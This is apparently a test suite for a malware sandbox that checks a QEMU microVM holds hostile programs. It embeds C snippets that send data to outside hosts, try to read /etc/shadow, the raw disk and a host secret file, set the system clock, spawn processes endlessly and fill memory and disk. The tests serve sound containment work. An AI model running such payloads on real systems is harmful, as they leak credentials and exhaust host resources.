"""A program tries to get out of its virtual machine, and to take the host with it."""

from __future__ import annotations

import os
import socket
import threading
import time
from pathlib import Path

import pytest

from gateway.emulation import Budget, Context, Detonation, Sample, StopKind, cgroup
from gateway.emulation.microvm.environment import MicroVm
from tests.net.microvm_fixtures import make_microvm
from tools.corpus.detections.compiled import program

pytestmark = pytest.mark.root

microvm = pytest.fixture(scope="module")(make_microvm)

_OUT = r"""
WSADATA w; WSAStartup(0x202, &w); unsigned short port = %d;
const char *hosts[] = {"127.0.0.1", "%s", "192.0.2.1", "8.8.8.8"};
for (int i = 0; i < 4; i++) { SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in to = {0}; to.sin_family = AF_INET; to.sin_port = htons(port);
  to.sin_addr.s_addr = inet_addr(hosts[i]); connect(s, (void *)&to, sizeof to);
  send(s, "out", 3, 0); closesocket(s); }
const char *files[] = {"\\\\?\\unix%s", "Z:%s", "\\\\?\\unix\\etc\\shadow",
  "\\\\?\\unix\\dev\\vda"};
for (int i = 0; i < 4; i++) { HANDLE h = CreateFileA(files[i], GENERIC_READ, 3, 0, 3, 0, 0);
  printf("%%d", h != INVALID_HANDLE_VALUE); }
SYSTEMTIME t = {2031, 1, 0, 1}; printf(" %%d\n", SetSystemTime(&t));
"""


def _run(microvm: MicroVm, body: str, seconds: float = 20.0) -> Detonation:
    case = program("escape", 64, body)
    sample = Sample(case.name, case.type, case.make())
    result = microvm.detonate(sample, Context(), Budget(seconds=seconds))
    own = f"vm-{os.getpid()}-"
    assert [name for name in cgroup.leftovers() if name.startswith(own)] == []
    return result


def test_no_way_out_to_network_files_or_clock(microvm: MicroVm, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("of the host")
    reached: list[object] = []
    before = time.time() - time.monotonic()
    with socket.create_server(("0.0.0.0", 0)) as listener:
        port = listener.getsockname()[1]
        threading.Thread(target=lambda: reached.append(_accepted(listener)), daemon=True).start()
        path = str(secret).replace("/", "\\\\")
        result = _run(microvm, _OUT % (port, _own_address(), path, path))
    assert [each for each in reached if each] == []
    assert result.output == b"0000 0\r\n", "no file was opened, the clock was not set"
    targets = {each.target for each in result.behaviours if each.action == "connect"}
    assert {f"192.0.2.1:{port}", f"8.8.8.8:{port}"} <= targets
    assert abs((time.time() - time.monotonic()) - before) < 5


def _accepted(listener: socket.socket) -> bool:
    try:
        return bool(listener.accept())
    except OSError:
        return False


def _own_address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return "127.0.0.1"
        return str(probe.getsockname()[0])


def test_a_flood_of_processes_ends_with_its_machine(microvm: MicroVm) -> None:
    body = "STARTUPINFOA si = {sizeof si}; PROCESS_INFORMATION pi; for (;;) "
    result = _run(microvm, body + "CreateProcessA(me, 0, 0, 0, 0, 0, 0, 0, &si, &pi);", 10.0)
    assert result.stopped_by is not None
    assert result.stopped_by.kind in (StopKind.PROCESSES, StopKind.TIMED_OUT, StopKind.CRASHED)


def test_memory_is_the_machines_own(microvm: MicroVm) -> None:
    body = "for (;;) { char *p = malloc(1 << 22); if (!p) break; memset(p, 1, 1 << 22); }"
    result = _run(microvm, body, 10.0)
    assert result.environment == "microvm"
    assert result.exit_status != 0 or result.stopped_by is None


def test_a_full_disk_is_the_machines_own(microvm: MicroVm) -> None:
    before = os.statvfs("/").f_bavail * os.statvfs("/").f_frsize
    body = r"""static char z[1 << 20]; memset(z, 7, sizeof z);
        FILE *f = fopen(place(a, "%TEMP%\\big"), "wb"); int n = 0;
        while (fwrite(z, 1, sizeof z, f) == sizeof z) n++; printf("%d\n", n < 800);"""
    result = _run(microvm, body, 20.0)
    after = os.statvfs("/").f_bavail * os.statvfs("/").f_frsize
    assert before - after < 300 << 20
    assert result.stopped_by is not None or result.output == b"1\r\n"


def test_the_machine_runs_as_nobody_without_rights(microvm: MicroVm) -> None:
    seen: list[dict[str, str]] = []

    def look() -> None:
        for _ in range(100):
            seen.extend(_machines())
            if seen:
                return
            time.sleep(0.05)

    watcher = threading.Thread(target=look)
    watcher.start()
    _run(microvm, "Sleep(500);")
    watcher.join()
    assert seen, "the machine was not seen while it ran"
    status = seen[0]
    assert status["Uid"].split() == ["64817"] * 4
    assert int(status["CapBnd"], 16) == 0
    assert status["NoNewPrivs"] == "1"
    assert status["Seccomp"] == "2"


def _machines() -> list[dict[str, str]]:
    """The status of QEMU processes below this one's groups, once they have become who they are."""
    found = []
    for name, group in cgroup.leftovers().items():
        if not name.startswith(f"vm-{os.getpid()}-"):
            continue
        for pid in group.processes():
            try:
                lines = Path(f"/proc/{pid}/status").read_text().splitlines()
            except OSError:
                continue
            status = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
            if status.get("Name", "").startswith("qemu") and status.get("Seccomp") == "2":
                found.append(status)
    return found
